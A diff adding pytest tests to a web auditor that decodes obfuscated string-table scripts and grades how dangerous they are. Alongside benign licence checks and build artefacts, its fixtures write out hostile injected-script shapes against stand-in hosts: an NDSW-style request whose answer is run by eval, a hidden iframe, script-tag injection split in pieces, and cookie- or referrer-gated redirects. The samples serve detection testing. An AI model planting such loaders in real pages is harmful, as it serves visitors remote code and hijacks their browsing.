@@ -12,7 +12,7 @@ import json
 
 import pytest
 
-from auditor.dom.deobfuscate import decode_script, is_data
+from auditor.dom.deobfuscate import decode_script, is_data, table_acts
 from auditor.model import PageReport, Severity
 
 from .conftest import AuditHtml
@@ -742,3 +742,324 @@ def test_data_naming_a_vendor_vouches_for_no_customer_host(url: str,
     base64 JSON was read as data); alone, GTM's was none too."""
     for html in (page(foot=_array_loader(_FC_URL, url)), page(foot=_config_loader(url))):
         assert [s for s, _ in _obfuscated(audit_html(html, url=URL))] == [H]
+
+
+def rotated(words: list[str], body: str, escaped: bool = True) -> str:
+    """javascript-obfuscator's current shape: the string array returned by a function,
+    rotated at run time until a checksum of `parseInt`s matches, and read through an
+    accessor with an offset (`_0x5e6f(0x1a3)` is `words[3]` once rotated). Which string
+    an index names cannot be read without running it."""
+    table = ",".join(("'" + "".join(f"\\x{ord(c):02x}" for c in w) + "'") if escaped
+                     else json.dumps(w) for w in words)
+    return (
+        "(function(_0x1a2b3c,_0x4d5e6f){var _0x2b3c4d=_0x5e6f,_0x3c4d5e=_0x1a2b3c();while(!![])"
+        "{try{var _0x4d5e6f7=parseInt(_0x2b3c4d(0x1a0))/0x1+-parseInt(_0x2b3c4d(0x1a1))/0x2;if("
+        "_0x4d5e6f7===_0x4d5e6f)break;else _0x3c4d5e['push'](_0x3c4d5e['shift']());}catch(_0x5e"
+        "6f70){_0x3c4d5e['push'](_0x3c4d5e['shift']());}}}(_0x1b2c,0x6b3d1));function _0x1b2c()"
+        f"{{var _0x6f7081=[{table}];_0x1b2c=function(){{return _0x6f7081;}};return _0x1b2c();}}"
+        "function _0x5e6f(_0x708192,_0x8192a3){var _0x92a3b4=_0x1b2c();return _0x5e6f=function("
+        "_0xa3b4c5,_0xb4c5d6){_0xa3b4c5=_0xa3b4c5-0x1a0;var _0xc5d6e7=_0x92a3b4[_0xa3b4c5];"
+        "return _0xc5d6e7;},_0x5e6f(_0x708192,_0x8192a3);}" + body)
+
+
+def _at(index: int) -> str:
+    """The accessor call reading the table's `index`th string (before rotation)."""
+    return f"_0x1({hex(0x1a0 + index)})"
+
+
+# a premium theme's licence check: posts the site's host name and purchase code to its
+# licence server, warns in the console when the answer is `invalid`; `location` is in the
+# table only to read `location.hostname`
+_LICENCE_WORDS = ["https://license.themeforge.example/api/v2/verify", "location", "hostname",
+                  "then", "json", "status", "invalid", "console", "warn",
+                  "Theme licence is not activated for ", "POST", "stringify"]
+_LICENCE = (
+    f"(function(){{var _0x1=_0x5e6f;fetch({_at(0)},{{method:{_at(10)},body:JSON[{_at(11)}]({{"
+    f"domain:window[{_at(1)}][{_at(2)}],code:'A1B2-C3D4-E5F6'}})}})[{_at(3)}](function(_0x2)"
+    f"{{return _0x2[{_at(4)}]();}})[{_at(3)}](function(_0x3){{if(_0x3[{_at(5)}]==={_at(6)})"
+    f"window[{_at(7)}][{_at(8)}]({_at(9)}+window[{_at(1)}][{_at(2)}]);}});}}());")
+# the same vendor's older check: an XMLHttpRequest to a `.js`-named endpoint, read as JSON
+_LICENCE_XHR_WORDS = ["https://api.pluginhaus.example/licence/check.js?k=", "location",
+                      "hostname", "XMLHttpRequest", "open", "GET", "send", "onload",
+                      "responseText", "parse", "valid", "console", "error",
+                      "Plugin licence invalid"]
+_LICENCE_XHR = (
+    f"(function(){{var _0x1=_0x5e6f,_0x2=new window[{_at(3)}]();_0x2[{_at(4)}]({_at(5)},"
+    f"{_at(0)}+window[{_at(1)}][{_at(2)}]);_0x2[{_at(7)}]=function(){{var _0x3=JSON[{_at(9)}]"
+    f"(_0x2[{_at(8)}]);if(!_0x3[{_at(10)}])window[{_at(11)}][{_at(12)}]({_at(13)});}};"
+    f"_0x2[{_at(6)}]();}}());")
+# an unlicensed copy's notice: a div whose markup links to the shop, unless on localhost
+_NOTICE_WORDS = ["https://themeforge.example/buy?ref=nolicence", "location", "hostname",
+                 "createElement", "div", "innerHTML", "Unlicensed copy. <a href=\"",
+                 "\">Buy a licence</a>", "body", "appendChild", "indexOf", "localhost"]
+_NOTICE = (
+    f"(function(){{var _0x1=_0x5e6f;if(window[{_at(1)}][{_at(2)}][{_at(10)}]({_at(11)})<0x0)"
+    f"{{var _0x2=document[{_at(3)}]({_at(4)});_0x2[{_at(5)}]={_at(6)}+{_at(0)}+{_at(7)};"
+    f"document[{_at(8)}][{_at(9)}](_0x2);}}}}());")
+# an anti-adblock script: a bait div, then a notice linking to its help page and a
+# button reloading the page
+_ANTI_ADBLOCK_WORDS = [
+    "adsbox", "createElement", "div", "className", "ad-banner adsbox doubleclick", "body",
+    "appendChild", "offsetHeight", "innerHTML",
+    "<p>Please disable your ad blocker. <a href=\"https://help.newsroom-tools.example/adblock\">"
+    "How?</a></p>", "location", "reload", "removeChild", "setTimeout"]
+_ANTI_ADBLOCK = (
+    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(4)};"
+    f"document[{_at(5)}][{_at(6)}](_0x2);window[{_at(13)}](function(){{if(_0x2[{_at(7)}]===0x0)"
+    f"{{var _0x3=document[{_at(1)}]({_at(2)});_0x3[{_at(8)}]={_at(9)};document[{_at(5)}]"
+    f"[{_at(6)}](_0x3);_0x3.onclick=function(){{window[{_at(10)}][{_at(11)}]();}};}}document"
+    f"[{_at(5)}][{_at(12)}](_0x2);}},0x64);}}());")
+
+_WEBPACK_MODULE = (
+    "__webpack_require__.r(__webpack_exports__);\\n/* harmony import */ var _api__WEBPACK_IMP"
+    "ORTED_MODULE_0__ = __webpack_require__(/*! ./api */ \\\"./src/api.js\\\");\\nfunction init"
+    "() {\\n  fetch('https://api.shop-backend.example/v1/cart').then(r => r.json()).then(rend"
+    "er);\\n}\\ninit();")
+_SOURCE_MAP = b64(json.dumps({
+    "version": 3, "sources": ["webpack://shop/./src/index.js"], "names": [],
+    "mappings": "AAAA;AACA", "sourceRoot": "", "sourcesContent": [
+        "import { api } from './api';\nfunction init() {\n  fetch('https://api.shop-backend."
+        "example/v1/cart').then(r => r.json()).then(render);\n}\ninit();"]}))
+WEBPACK_DEV = (
+    "<script>/******/ (() => { // webpackBootstrap\n/******/ \tvar __webpack_modules__ = ({\n"
+    "\"./src/index.js\":\n/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_req"
+    f"uire__) => {{\n\neval(\"{_WEBPACK_MODULE}//# sourceURL=[module]\\n//# sourceMappingURL="
+    f"data:application/json;charset=utf-8;base64,{_SOURCE_MAP}\\n//# sourceURL=webpack-intern"
+    "al:///./src/index.js\\n\");\n\n/***/ })\n/******/ });\n})();</script>")
+_WASM = base64.b64encode(bytes([0, 97, 115, 109, 1, 0, 0, 0, 1, 7, 1, 96, 2, 127, 127, 1, 127,
+                                3, 2, 1, 0, 7, 7, 1, 3, 97, 100, 100, 0, 0, 10, 9, 1, 7, 0, 32,
+                                0, 32, 1, 106, 11]) * 4).decode()
+EMSCRIPTEN = (
+    "<script>var Module=typeof Module!='undefined'?Module:{};var dataURIPrefix='data:applicat"
+    "ion/octet-stream;base64,';function isDataURI(f){return f.startsWith(dataURIPrefix)}func"
+    "tion tryParseAsDataURI(f){if(!isDataURI(f)){return}var d=atob(f.slice(dataURIPrefix.len"
+    "gth));var b=new Uint8Array(d.length);for(var i=0;i<d.length;++i){b[i]=d.charCodeAt(i)}"
+    f"return b}}var wasmBinaryFile='data:application/octet-stream;base64,{_WASM}';WebAssembl"
+    "y.instantiate(tryParseAsDataURI(wasmBinaryFile),{env:{}});</script>")
+I18N = (
+    "<script>!function(){var t=JSON.parse(atob('" + b64(json.dumps({
+        "de": {"more": "Mehr lesen", "privacy": "https://shop.example/datenschutz"},
+        "en": {"more": "Read more"}})) + "')),e=document.documentElement.lang||'en';document."
+    "querySelectorAll('[data-i18n]').forEach(function(n){n.textContent=(t[e]||t.en)[n.datase"
+    "t.i18n]})}();</script>")
+ICON_FONT = (
+    "<script>var f=new FontFace('Icons','url(data:font/woff2;base64,"
+    + base64.b64encode(bytes(range(256)) * 3).decode()
+    + ")');f.load().then(function(l){document.fonts.add(l)});</script>")
+
+# a bot check's VM handed its program as base64 bytecode (BotGuard's inline shape)
+BOT_CHECK_VM = (
+    "<script nonce=\"n0nce\">(function(){var l=this||self,G=function(q,X){for(var k=q.split('.')"
+    ",g=l,a;k.length&&(a=k.shift());)!k.length&&X!==void 0?g[a]=X:g=g[a]?g[a]:g[a]={}},y=fun"
+    "ction(q){var X=atob(q),k=new Uint8Array(X.length);for(var g=0;g<X.length;g++)k[g]=X.char"
+    "CodeAt(g);return k};G('botguard.bg',function(q,X){this.p=y(q);this.cb=X});})();new botgu"
+    "ard.bg('" + base64.b64encode(bytes((i * 37 + 11) % 256 for i in range(900))).decode()
+    + "',function(r){document.getElementById('bgresponse').value=r});</script>")
+# a site builder's context: JSON whose slashes are `\u002F` escapes
+SITE_CONTEXT = ("<script>Static = window.Static || {}; Static.SQUARESPACE_CONTEXT = " + json.dumps({
+    "website": {"id": "5f1a2b3c4d5e6f7a8b9c0d1e", "baseUrl": "https://studio-kiln.example",
+                "logoImageUrl": "//images.squarespace-cdn.com/content/v1/5f1a2b/logo.png"},
+    "templateScript": "https://static1.squarespace.com/static/vta/5c5a5197/scripts/site-bundle"
+                      ".js"}).replace("/", "\\u002F") + ";</script>")
+
+GENERATED: list[tuple[str, str, Severity | None]] = [
+    # (what, page, the obfuscated-script severity it may have: None for none)
+    ("a theme's licence check posting to its licence server", page(
+        foot="<script>" + rotated(_LICENCE_WORDS, _LICENCE) + "</script>"), M),
+    ("the same, its table not escaped", page(
+        foot="<script>" + rotated(_LICENCE_WORDS, _LICENCE, escaped=False) + "</script>"), M),
+    ("a plugin's licence check asking a .js-named endpoint by XHR", page(
+        foot="<script>" + rotated(_LICENCE_XHR_WORDS, _LICENCE_XHR) + "</script>"), M),
+    ("an unlicensed copy's notice linking to the shop", page(
+        foot="<script>" + rotated(_NOTICE_WORDS, _NOTICE) + "</script>"), M),
+    ("an obfuscated anti-adblock bait and notice", page(
+        foot="<script>" + rotated(_ANTI_ADBLOCK_WORDS, _ANTI_ADBLOCK) + "</script>"), M),
+    ("a webpack eval-source-map dev build", page(foot=WEBPACK_DEV), None),
+    ("an Emscripten loader with its wasm as base64", page(foot=EMSCRIPTEN), None),
+    ("a bundle's translations as base64 JSON", page(foot=I18N), None),
+    ("an icon font as base64 in a script", page(foot=ICON_FONT), None),
+    ("a bot check's VM and its base64 bytecode", page(foot=BOT_CHECK_VM), None),
+    ("a site builder's context with escaped slashes", page(foot=SITE_CONTEXT), None),
+]
+
+
+@pytest.mark.parametrize(("what", "html", "most"), GENERATED, ids=[g[0] for g in GENERATED])
+def test_a_string_table_naming_a_url_loads_nothing(what: str, html: str, most: Severity | None,
+                                                   audit_html: AuditHtml) -> None:
+    """Generated or obfuscated code that names a URL it never loads: a javascript-obfuscator
+    table holding `location` (to read the host name) and the licence server's URL read
+    "decoded, it sends the visitor to" that URL, high. Machine obfuscation with no load
+    is `medium`, naming the URL; the walk requests none of its table's URLs."""
+    report = audit_html(html, url=URL)
+    found = _obfuscated(report)
+    assert [s for s, _ in found] == ([most] if most else []), found
+    for _, message in found:
+        assert "decoded, it loads" not in message and "sends the visitor" not in message
+    assert not [r.url for r in report.resources if r.via == "inline-decoded"]
+
+
+_SCRIPT_WORDS = ["https://cdn.statsjqueryapi.example/lib/jq.min.js", "createElement", "script",
+                 "src", "head", "appendChild", "async", "location", "hostname"]
+_SCRIPT_LOADER = (
+    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(0)}"
+    f"+'?d='+window[{_at(7)}][{_at(8)}];_0x2[{_at(6)}]=!![];document[{_at(4)}][{_at(5)}]"
+    "(_0x2);}());")
+_FRAME_WORDS = ["https://promo.clickhub-tds.example/frame/7731", "createElement", "iframe", "src",
+                "style", "display:none", "body", "appendChild"]
+_FRAME_LOADER = (
+    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(0)};"
+    f"_0x2[{_at(4)}]={_at(5)};document[{_at(6)}][{_at(7)}](_0x2);}}());")
+_REDIRECT_WORDS = ["https://go.trafficdesk.example/r/8812", "location", "href", "referrer",
+                   "cookie", "indexOf", "wp-settings"]
+_REDIRECT = (
+    f"(function(){{var _0x1=_0x5e6f;if(document[{_at(4)}][{_at(5)}]({_at(6)})==-0x1&&document"
+    f"[{_at(3)}]){{window[{_at(1)}][{_at(2)}]={_at(0)};}}}}());")
+_REPLACE_WORDS = ["https://win-prize.reward-desk.example/?c=77", "location", "replace",
+                  "referrer", "indexOf", "google"]
+_REPLACE = (
+    f"(function(){{var _0x1=_0x5e6f;if(document[{_at(3)}][{_at(4)}]({_at(5)})>-0x1)window"
+    f"[{_at(1)}][{_at(2)}]({_at(0)});}}());")
+# NDSW/"ndsj": an XMLHttpRequest to a hacked site's PHP file whose answer is run
+_NDSW_WORDS = ["https://stats.wp-cdnupdate.example/wp-content/plugins/ndsw.php?id=",
+               "XMLHttpRequest", "open", "GET", "send", "onreadystatechange", "readyState",
+               "status", "responseText", "eval", "random"]
+_NDSW = (
+    f"(function(){{var _0x1=_0x5e6f,_0x2=new window[{_at(1)}]();_0x2[{_at(5)}]=function(){{if("
+    f"_0x2[{_at(6)}]==0x4&&_0x2[{_at(7)}]==0xc8)window[{_at(9)}](_0x2[{_at(8)}]);}};_0x2"
+    f"[{_at(2)}]({_at(3)},{_at(0)}+Math[{_at(10)}]());_0x2[{_at(4)}]();}}());")
+_WRITE_WORDS = ['<script src="https://cdn.jqueryui-lib.example/ui.js"></script>', "write",
+                "a", "b", "c"]
+_WRITE = f"(function(){{var _0x1=_0x5e6f;document[{_at(1)}]({_at(0)});}}());"
+# the same tag split over the table, joined as it is written
+_PIECES_WORDS = ["<scr", 'ipt src="https://cdn.jqueryui-lib.example/ui.js"></scr', "ipt>", "write"]
+_PIECES = (f"(function(){{var _0x1=_0x5e6f;document[{_at(3)}]({_at(0)}+{_at(1)}+{_at(2)});}}"
+           "());")
+
+
+
+def indexed(words: list[str], body: str) -> str:
+    """javascript-obfuscator's older shape, as Blogger templates ship it: an array of
+    hex-escaped strings read by index (`_0xf3df[30]`), no accessor function."""
+    table = ",".join('"' + "".join(f"\\x{ord(c):02X}" for c in w) + '"' for w in words)
+    return f"var _0x7a1c=[{table}];" + body
+
+
+# a Blogger template's credit lock: when the page lacks the credit link, the visitor is
+# sent to the template's site; else the link is forced dofollow
+_CREDIT_WORDS = ["onload", "creditline", "getElementById", "href", "location",
+                 "http://www.templateforge.example/", "setAttribute", "rel", "dofollow"]
+_CREDIT_LOCK = (
+    "window[_0x7a1c[0]]=function(){var _0x3=document[_0x7a1c[2]](_0x7a1c[1]);if(_0x3==null)"
+    "{window[_0x7a1c[4]][_0x7a1c[3]]=_0x7a1c[5]};_0x3[_0x7a1c[6]](_0x7a1c[3],_0x7a1c[5]);"
+    "_0x3[_0x7a1c[6]](_0x7a1c[7],_0x7a1c[8]);}")
+# the same template's credit check that only logs a missing link (reads the host name)
+_CREDIT_LOG = (
+    "window[_0x7a1c[0]]=function(){var _0x3=document[_0x7a1c[2]](_0x7a1c[1]);if(_0x3==null)"
+    "{console.log(window[_0x7a1c[4]].hostname,_0x7a1c[5])};_0x3[_0x7a1c[6]](_0x7a1c[7],"
+    "_0x7a1c[8]);}")
+
+
+def test_an_indexed_table_that_only_reads_the_location_sends_nobody(
+        audit_html: AuditHtml) -> None:
+    """The older indexed shape: a template logging its credit's URL and reading the host
+    name is `medium`, naming the URL; the same table assigning `location.href` is the
+    credit lock a reviewer signed `high` on a real Blogger page (TABLE_TWINS)."""
+    found = _obfuscated(audit_html(page(foot="<script>" + indexed(
+        _CREDIT_WORDS, _CREDIT_LOG) + "</script>"), url=URL))
+    assert [s for s, _ in found] == [M], found
+    assert "sends the visitor" not in found[0][1]
+
+
+TABLE_TWINS: list[tuple[str, str, str, str]] = [
+    ("a template's credit lock assigning location.href through an indexed table",
+     indexed(_CREDIT_WORDS, _CREDIT_LOCK), "sends the visitor to", _CREDIT_WORDS[5]),
+    # (what, script, the verb, the URL)
+    ("a table loader creating a script", rotated(_SCRIPT_WORDS, _SCRIPT_LOADER), "loads",
+     _SCRIPT_WORDS[0]),
+    ("a table loader creating a hidden frame of an address with no extension",
+     rotated(_FRAME_WORDS, _FRAME_LOADER), "loads", _FRAME_WORDS[0]),
+    ("a table redirect assigning location.href", rotated(_REDIRECT_WORDS, _REDIRECT),
+     "sends the visitor to", _REDIRECT_WORDS[0]),
+    ("a table redirect calling location.replace", rotated(_REPLACE_WORDS, _REPLACE),
+     "sends the visitor to", _REPLACE_WORDS[0]),
+    ("NDSW's XMLHttpRequest whose answer is run by eval", rotated(_NDSW_WORDS, _NDSW), "loads",
+     _NDSW_WORDS[0]),
+    ("a table writing a script tag", rotated(_WRITE_WORDS, _WRITE), "loads",
+     "https://cdn.jqueryui-lib.example/ui.js"),
+    ("a table writing a script tag split in pieces", rotated(_PIECES_WORDS, _PIECES), "loads",
+     "https://cdn.jqueryui-lib.example/ui.js"),
+]
+
+
+# javascript-obfuscator writes its table plain by default: the same loaders so
+TABLE_TWINS += [
+    (f"{what}, its table plain", rotated(words, body, escaped=False), verb, words[0])
+    for what, words, body, verb in [
+        ("a table loader creating a script", _SCRIPT_WORDS, _SCRIPT_LOADER, "loads"),
+        ("a table loader creating a hidden frame", _FRAME_WORDS, _FRAME_LOADER, "loads"),
+        ("a table redirect assigning location.href", _REDIRECT_WORDS, _REDIRECT,
+         "sends the visitor to"),
+        ("NDSW's XMLHttpRequest run by eval", _NDSW_WORDS, _NDSW, "loads")]]
+
+
+@pytest.mark.parametrize(("what", "script", "verb", "url"), TABLE_TWINS,
+                         ids=[t[0] for t in TABLE_TWINS])
+def test_a_string_table_that_loads_or_redirects_stays_high(
+        what: str, script: str, verb: str, url: str, audit_html: AuditHtml) -> None:
+    """The injected twins of GENERATED: the same rotated table, whose code creates a script
+    or frame, writes a script tag, runs a download or assigns the location. High, saying
+    what it does with which URL (the frame's and NDSW's addresses, with no extension, were
+    `medium` and named nothing; so was every loader whose table is plain, and a plain
+    table's script URL was its own "loader beside it")."""
+    found = _obfuscated(audit_html(page(foot=f"<script>{script}</script>"), url=URL))
+    assert [s for s, _ in found] == [H], found
+    assert f"decoded, it {verb} {url}" in found[0][1]
+
+
+@pytest.mark.parametrize(("code", "words", "acts"), [
+    ("d[a(1)](a(2))[a(3)]=a(0)", ["createElement", "script", "src"], {"script"}),
+    ("d[a(1)](a(2))[a(3)]=a(0)", ["createElement", "iframe", "src"], {"frame"}),
+    ("d[a(1)](a(2))[a(3)]=a(0)", ["createElement", "div", "innerHTML"], set()),
+    ("d[a(1)](a(0))", ['<iframe src="//t.example/f" width=0>', "write"], {"frame"}),
+    ("new window[a(1)]();x[a(2)]=function(){window[a(3)](x.responseText)}",
+     ["XMLHttpRequest", "onload", "eval"], {"fetch-run"}),
+    ("fetch(a(0)).then(r=>r.json())", ["https://l.example/verify"], set()),
+    ("window[a(1)][a(2)]=a(0)", ["location", "href"], {"navigate"}),
+    ("window[t[4]][t[3]]=t[5]", ["location", "href"], {"navigate"}),
+    ("window[a(1)][a(2)](a(0))", ["location", "replace"], {"navigate"}),
+    ("location[a(2)](a(0))", ["location", "assign"], {"navigate"}),
+    ("import(a(0)).then(m=>m.run())", ["https://x.example/m"], {"script"}),
+    ("f({d:window[a(1)][a(2)]})", ["location", "hostname"], set()),
+    ("window[a(1)][a(2)]()", ["location", "reload"], set()),
+    ("d=document[a(3)](a(4));x=y[a(2)](/w/,'')", ["location", "replace", "createElement"],
+     set()),
+    ("window[a(3)][a(4)](a(5))", ["location", "hostname", "console", "warn"], set()),
+])
+def test_table_acts_read_what_the_code_does(code: str, words: list[str], acts: set[str]) -> None:
+    """What code does with its table, read from its words and shape: the act a table's
+    URL needs before it counts as loaded."""
+    assert table_acts(code, words) == acts
+
+
+# an anti-adblock bait: creates AdSense's script and shows its notice if it fails to load
+_BAIT_WORDS = ["https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js", "createElement",
+               "script", "src", "onerror", "head", "appendChild", "adblock-notice",
+               "getElementById", "style", "display", "block"]
+_BAIT = (
+    f"(function(){{var _0x1=_0x5e6f,_0x2=document[{_at(1)}]({_at(2)});_0x2[{_at(3)}]={_at(0)};"
+    f"_0x2[{_at(4)}]=function(){{document[{_at(8)}]({_at(7)})[{_at(9)}][{_at(10)}]={_at(11)};}};"
+    f"document[{_at(5)}][{_at(6)}](_0x2);}}());")
+
+
+@pytest.mark.parametrize(("escaped", "most"), [(False, M), (True, H)])
+def test_a_plain_tables_vendor_script_is_checked_not_condemned(
+        escaped: bool, most: Severity, audit_html: AuditHtml) -> None:
+    """An anti-adblock bait whose plain table names AdSense's script in plain sight:
+    `medium`, "check that the site chose that vendor" (a plain table's URLs are read now,
+    and a fresh host's script in one is `high`: TABLE_TWINS). The same address hidden in
+    escapes is a host the page names nowhere else: `high`, as before."""
+    html = page(foot="<script>" + rotated(_BAIT_WORDS, _BAIT, escaped=escaped) + "</script>")
+    found = _obfuscated(audit_html(html, url=URL))
+    assert [s for s, _ in found] == [most], found
+    if most is M:
+        assert "check that the site chose that vendor" in found[0][1]
